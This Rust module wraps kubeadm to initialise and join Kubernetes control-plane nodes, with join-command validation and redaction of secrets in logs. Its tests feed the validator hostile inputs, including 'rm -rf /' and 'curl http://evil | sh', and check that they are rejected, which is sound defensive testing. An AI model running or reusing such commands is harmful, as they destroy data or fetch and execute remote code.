//! The cluster-init/join executable, driven as an opaque subprocess.

use std::{
    net::Ipv4Addr,
    path::{Path, PathBuf},
};

use async_trait::async_trait;
#[cfg(test)]
use mockall::automock;
use tokio::{fs, process::Command};
use tracing::{debug, info};

use crate::{cluster_ops::BootstrapConfig, credential::JoinCredential};

mod config;
mod error;

pub use config::InitSettings;
pub use error::*;

const KUBERNETES_DIR: &str = "/etc/kubernetes";
const INIT_CONFIG_FILE: &str = "kubeadm-init.yaml";

#[cfg_attr(test, automock)]
#[async_trait]
pub trait ClusterTool: Send + Sync {
    /// Whether this node already runs a control plane member.
    async fn is_initialized(&self) -> bool;

    /// Create the cluster with this node as its first member.
    async fn init(&self, settings: &InitSettings) -> Result<(), ToolError>;

    /// A fresh `kubeadm join ...` command line.
    async fn issue_join_command(&self) -> Result<String, ToolError>;

    /// A fresh certificate key, with the control plane certificates
    /// re-uploaded under it.
    async fn issue_certificate_key(&self) -> Result<String, ToolError>;

    /// Join this node as an additional control plane member.
    async fn join(
        &self,
        credential: &JoinCredential,
        advertise_address: Option<Ipv4Addr>,
    ) -> Result<(), ToolError>;

    /// Copy the admin kubeconfig to `<home>/.kube/config`.
    async fn install_kubeconfig(&self, home: &Path) -> Result<(), ToolError>;
}

/// Split a stored join command into kubeadm arguments, starting at `join`.
pub fn join_arguments(join_command: &str) -> Result<Vec<String>, ToolError> {
    let mut words = join_command.split_whitespace();
    let program = words.next().unwrap_or_default();
    if !(program == "kubeadm" || program.ends_with("/kubeadm")) {
        return Err(ToolError::InvalidJoinCommand(format!(
            "expected kubeadm, found {program:?}"
        )));
    }
    let args: Vec<String> = words.map(str::to_owned).collect();
    if args.first().map(String::as_str) != Some("join") {
        return Err(ToolError::InvalidJoinCommand(
            "not a join command".to_owned(),
        ));
    }
    if args.len() < 2 {
        return Err(ToolError::InvalidJoinCommand(
            "join command names no endpoint".to_owned(),
        ));
    }
    Ok(args)
}

pub struct Kubeadm {
    program: String,
    work_dir: PathBuf,
    kubernetes_dir: PathBuf,
    token_ttl: String,
}

impl Kubeadm {
    pub fn new(config: &BootstrapConfig) -> Self {
        Self {
            program: config.kubeadm_path.clone(),
            work_dir: config.work_dir.clone(),
            kubernetes_dir: PathBuf::from(KUBERNETES_DIR),
            token_ttl: config.token_ttl.clone(),
        }
    }

    pub fn with_kubernetes_dir(mut self, dir: impl Into<PathBuf>) -> Self {
        self.kubernetes_dir = dir.into();
        self
    }

    fn admin_conf(&self) -> PathBuf {
        self.kubernetes_dir.join("admin.conf")
    }

    /// Run kubeadm with `args` and return its trimmed stdout.
    async fn run(&self, args: &[&str]) -> Result<String, ToolError> {
        let command = format!("{} {}", self.program, redact(args).join(" "));
        debug!(%command, "running");
        let output = Command::new(&self.program)
            .args(args)
            .output()
            .await
            .map_err(|source| ToolError::Spawn {
                command: command.clone(),
                source,
            })?;
        if !output.status.success() {
            return Err(ToolError::Failed {
                command,
                code: output.status.code(),
                stderr: String::from_utf8_lossy(&output.stderr).trim().to_owned(),
            });
        }
        Ok(String::from_utf8_lossy(&output.stdout).trim().to_owned())
    }
}

/// Hide the values of secret-bearing flags from logs and errors.
fn redact(args: &[&str]) -> Vec<String> {
    let mut out = Vec::with_capacity(args.len());
    let mut hide_next = false;
    for arg in args {
        if hide_next {
            out.push("<redacted>".to_owned());
            hide_next = false;
            continue;
        }
        hide_next = matches!(
            *arg,
            "--token" | "--certificate-key" | "--discovery-token-ca-cert-hash"
        );
        out.push((*arg).to_owned());
    }
    out
}

#[async_trait]
impl ClusterTool for Kubeadm {
    async fn is_initialized(&self) -> bool {
        fs::try_exists(self.admin_conf()).await.unwrap_or(false)
            && fs::try_exists(self.kubernetes_dir.join("kubelet.conf"))
                .await
                .unwrap_or(false)
    }

    async fn init(&self, settings: &InitSettings) -> Result<(), ToolError> {
        fs::create_dir_all(&self.work_dir).await?;
        let config_path = self.work_dir.join(INIT_CONFIG_FILE);
        fs::write(&config_path, settings.render()?).await?;
        info!(
            endpoint = %settings.control_plane_endpoint(),
            config = %config_path.display(),
            "initializing control plane"
        );
        let config_arg = config_path.to_string_lossy().into_owned();
        self.run(&["init", "--config", &config_arg, "--upload-certs"])
            .await?;
        Ok(())
    }

    async fn issue_join_command(&self) -> Result<String, ToolError> {
        let join_command = self
            .run(&[
                "token",
                "create",
                "--print-join-command",
                "--ttl",
                &self.token_ttl,
            ])
            .await?;
        join_arguments(&join_command).map_err(|e| ToolError::InvalidOutput {
            command: "kubeadm token create".to_owned(),
            reason: e.to_string(),
        })?;
        Ok(join_command)
    }

    async fn issue_certificate_key(&self) -> Result<String, ToolError> {
        let key = self.run(&["certs", "certificate-key"]).await?;
        if key.is_empty() || key.contains(char::is_whitespace) {
            return Err(ToolError::InvalidOutput {
                command: "kubeadm certs certificate-key".to_owned(),
                reason: "expected a single key".to_owned(),
            });
        }
        self.run(&[
            "init",
            "phase",
            "upload-certs",
            "--upload-certs",
            "--certificate-key",
            &key,
        ])
        .await?;
        Ok(key)
    }

    async fn join(
        &self,
        credential: &JoinCredential,
        advertise_address: Option<Ipv4Addr>,
    ) -> Result<(), ToolError> {
        let mut args = join_arguments(&credential.join_command)?;
        if !args.iter().any(|a| a == "--control-plane") {
            args.push("--control-plane".to_owned());
        }
        args.push("--certificate-key".to_owned());
        args.push(credential.certificate_key.clone());
        if let Some(ip) = advertise_address {
            args.push("--apiserver-advertise-address".to_owned());
            args.push(ip.to_string());
        }
        info!(endpoint = %args[1], "joining control plane");
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        self.run(&args).await?;
        Ok(())
    }

    async fn install_kubeconfig(&self, home: &Path) -> Result<(), ToolError> {
        let kube_dir = home.join(".kube");
        fs::create_dir_all(&kube_dir).await?;
        fs::copy(self.admin_conf(), kube_dir.join("config")).await?;
        info!(home = %home.display(), "admin kubeconfig installed");
        Ok(())
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::cluster_ops::test_config;

    #[test]
    fn join_arguments_test() {
        let args = join_arguments(
            "kubeadm join cp.example:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:00ff \n",
        )
        .unwrap();
        assert_eq!(args[0], "join");
        assert_eq!(args[1], "cp.example:6443");
        assert_eq!(args.len(), 6);

        assert!(join_arguments("/usr/bin/kubeadm join cp:6443").is_ok());
        assert!(join_arguments("rm -rf /").is_err());
        assert!(join_arguments("kubeadm reset -f").is_err());
        assert!(join_arguments("kubeadm join").is_err());
        assert!(join_arguments("").is_err());
    }

    #[test]
    fn redact_test() {
        let shown = redact(&["join", "cp:6443", "--token", "abc.def", "--certificate-key", "k"]);
        assert_eq!(
            shown,
            vec!["join", "cp:6443", "--token", "<redacted>", "--certificate-key", "<redacted>"]
        );
    }

    #[tokio::test]
    async fn is_initialized_test() {
        let dir = tempfile::tempdir().unwrap();
        let kubeadm = Kubeadm::new(&test_config()).with_kubernetes_dir(dir.path());
        assert!(!kubeadm.is_initialized().await);
        std::fs::write(dir.path().join("admin.conf"), "apiVersion: v1").unwrap();
        assert!(!kubeadm.is_initialized().await);
        std::fs::write(dir.path().join("kubelet.conf"), "apiVersion: v1").unwrap();
        assert!(kubeadm.is_initialized().await);
    }

    #[tokio::test]
    async fn install_kubeconfig_test() {
        let k8s = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        std::fs::write(k8s.path().join("admin.conf"), "kind: Config").unwrap();
        let kubeadm = Kubeadm::new(&test_config()).with_kubernetes_dir(k8s.path());
        kubeadm.install_kubeconfig(home.path()).await.unwrap();
        assert_eq!(
            std::fs::read_to_string(home.path().join(".kube/config")).unwrap(),
            "kind: Config"
        );
    }

    #[tokio::test]
    async fn failing_tool_reports_exit_test() {
        let mut config = test_config();
        config.kubeadm_path = "false".to_owned();
        let kubeadm = Kubeadm::new(&config);
        let err = kubeadm.issue_join_command().await.unwrap_err();
        assert!(matches!(err, ToolError::Failed { code: Some(1), .. }));
    }

    #[tokio::test]
    async fn join_rejects_foreign_command_test() {
        let kubeadm = Kubeadm::new(&test_config());
        let credential = JoinCredential::new("curl http://evil | sh", "k");
        assert!(matches!(
            kubeadm.join(&credential, None).await,
            Err(ToolError::InvalidJoinCommand(_))
        ));
    }
}
